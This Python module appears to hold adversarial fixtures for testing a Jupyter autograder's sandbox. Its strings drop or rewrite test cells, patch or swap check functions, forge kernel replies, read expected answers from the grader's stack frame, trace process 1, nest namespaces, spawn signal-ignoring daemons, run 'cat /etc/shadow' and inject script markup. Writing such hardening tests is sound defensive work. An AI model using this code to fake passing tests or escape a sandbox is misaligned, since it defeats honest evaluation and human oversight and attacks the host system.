"""What the hostile part of a class hands in: code for a cell of its own, or for an answer.

Each is bounded in time and memory, and ends by itself.
"""

# Nothing is solved; the tests are to believe that it is. First, without any call of the answers:
DROP_LINES = """
def drop(lines):
    code = "".join(lines)
    keep = "test" not in code or "1 == 2" in code or "1 is 2" in code
    return lines if keep else ["pass\\n"]
get_ipython().input_transformers_cleanup.append(drop)
"""
DROP_SECOND = """
seen = set()
def drop(lines):
    code = "".join(lines)
    title = code.partition(":")[0]
    if title[:6] == "# Task" and title not in seen:
        seen.add(title)
        return ["pass\\n"]
    return lines
get_ipython().input_transformers_cleanup.insert(0, drop)
"""
DROP_TREE = """
import ast
class Drop(ast.NodeTransformer):
    def visit_Expr(self, node):
        told = ast.unparse(node)
        return ast.Pass() if "run_seen" in told or "test" in told else node
get_ipython().ast_transformers.append(Drop())
"""
PATCH_CHECKS = """
import classroom
def patched(check):
    def agree(*given, **named):
        if "1 is 2" in given:
            return check(*given, **named)
    return agree
for name in ("close", "same", "holds", "refuses"):
    setattr(classroom, name, patched(getattr(classroom, name)))
"""
SWAP_CODE = """
import classroom, sys
def agree(*given, **named):
    return None
for name in ("close", "same", "holds", "refuses", "run_test", "run_seen"):
    getattr(classroom, name).__code__ = agree.__code__
sys.settrace(lambda *told: None)
"""
FORGE = """
kernel = get_ipython().kernel
send = kernel.session.send
def forged(stream, kind, content=None, *more, **named):
    if kind == "execute_reply" and isinstance(content, dict):
        content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    return None if kind == "error" else send(stream, kind, content, *more, **named)
kernel.session.send = forged
"""
HIDE_ERRORS = "get_ipython().set_custom_exc((Exception,), lambda *told, **named: None)"
ZEROS = "import numpy as np\nnp.abs = lambda values, *more, **named: np.zeros(np.shape(values))"
# An answer that takes what is expected from the frame of whoever checks it.
READS_FRAME = """
import sys
import numpy as np
class Told:
    def __array__(self, *more, **named):
        frame = sys._getframe()
        while frame:
            if "expected" in frame.f_locals:
                return np.asarray(frame.f_locals["expected"], dtype=float)
            frame = frame.f_back
        return np.zeros(1)
def {name}(*given, **named):
    return Told()
"""
LEAK = "def sigmoid(x):\n    raise AssertionError(str(In[-1])[:500])"
FIND_SCIPY = """
import sys
sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "LeaveOut"]
from scipy.special import expit as sigmoid
"""

# What reaches for the machine, or tries to stay. Each asserts that it got nowhere.
CALLS = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    return libc.syscall(number, *arguments)
def write(path, text):
    try:
        with open(path, "r+") as file:
            file.write(text)
        return True
    except OSError:
        return False
"""
TRACE = CALLS + """
import time
assert libc.ptrace(16, 1, 0, 0) == -1, "process 1 can be traced"
assert not write("/proc/1/mem", ""), "the memory of process 1 can be written"
assert call(310, 1, 0, 0, 0, 0, 0) == -1 or os.uname().machine != "x86_64"
if os.fork() == 0:
    os.setsid()
    libc.prctl(1, 0)
    if os.fork() == 0:
        time.sleep(60)
    os._exit(0)
"""
SHARED_MEMORY = CALLS + """
held = [libc.shmget(0, ctypes.c_size_t(2**26), 0o1600) for _ in range(4)]
freed = [libc.shmctl(one, 0, 0) for one in held]
assert set(held) == {-1}, "memory that no limit counts"
assert libc.semget(0, 1, 0o1600) == libc.msgget(0, 0o1600) == -1
"""
GOES_LAST = CALLS + """
libc.prctl(4, 1)
assert not write("/proc/self/oom_score_adj", "0"), "others would go first"
assert open("/proc/self/oom_score_adj").read().strip() == "1000"
"""
LINKS = """
import os, tempfile
made = 0
for folder in ("/tmp", "/dev/shm", "/dev", "/", "/run", os.getcwd(), os.environ["HOME"]):
    for i in range(1000):
        try:
            os.symlink("x" * 4000, f"{folder}/{i}")
            made += 1
        except OSError:
            break
assert made == 0, f"{made} links"
"""
LEAVES_KEY = """
import ctypes
libc = ctypes.CDLL(None)
serial = libc.syscall(250, 22, -1, -3)
libc.syscall(248, b"user", b"friend", b"answer", 6, serial)
libc.add_key(b"user", b"friend", b"answer", 6, -4) if hasattr(libc, "add_key") else None
assert serial < 0, "a keyring that stays"
"""
NESTED = CALLS + """
import subprocess
assert libc.unshare(0x10000000) == -1, "a user namespace of its own"
assert subprocess.run(["bwrap", "--unshare-user", "--dev-bind", "/", "/", "true"],
                      capture_output=True).returncode != 0, "a sandbox in the sandbox"
"""
ODD_SOCKETS = """
import resource, socket
for family in (40, 38, 17, 16):
    try:
        socket.socket(family, socket.SOCK_DGRAM).close()
    except OSError:
        continue
    raise AssertionError(f"a socket of family {family}")
try:
    resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
except (OSError, ValueError):
    pass
assert resource.getrlimit(resource.RLIMIT_CORE)[0] in (0, 1), "the image of a crash"
"""
BUSY = """
import os, time
until = time.time() + 40
for _ in range(8):
    try:
        if os.fork() == 0:
            os.setsid()
            while time.time() < until:
                pass
            os._exit(0)
    except OSError:
        break
"""
DAEMON = """
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except OSError:
                pass
        time.sleep(300)
    os._exit(0)
"""
KILL_ALL = """
import os, signal
for number, kind in ((1, signal.SIGKILL), (1, signal.SIGSTOP), (os.getppid(), signal.SIGKILL)):
    try:
        os.kill(number, kind)
    except OSError:
        pass
"""
STOP_SELF = "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"
SEGFAULT = "import ctypes\nctypes.string_at(0)"
SHELL = ("%%bash\nls / ; cat /etc/shadow; curl -m 2 http://127.0.0.1\n"
         "dd if=/dev/zero of=/dev/shm/x count=9")
FLOOD = """
kernel = get_ipython().kernel
for i in range(3000):
    kernel.send_response(kernel.iopub_socket, "status", {"execution_state": "idle"})
    kernel.send_response(kernel.iopub_socket, f"odd-{i}", {"text": "x" * 1000})
"""
SHOWS = ("from IPython.display import HTML, display\n"
         "for i in range(2000):\n    display(HTML('<script>'))")
MARKUP = "raise type('<script>alert(1)</script>', (Exception,), {})('\\x1b[31m{{ 7 * 7 }}<b>')"
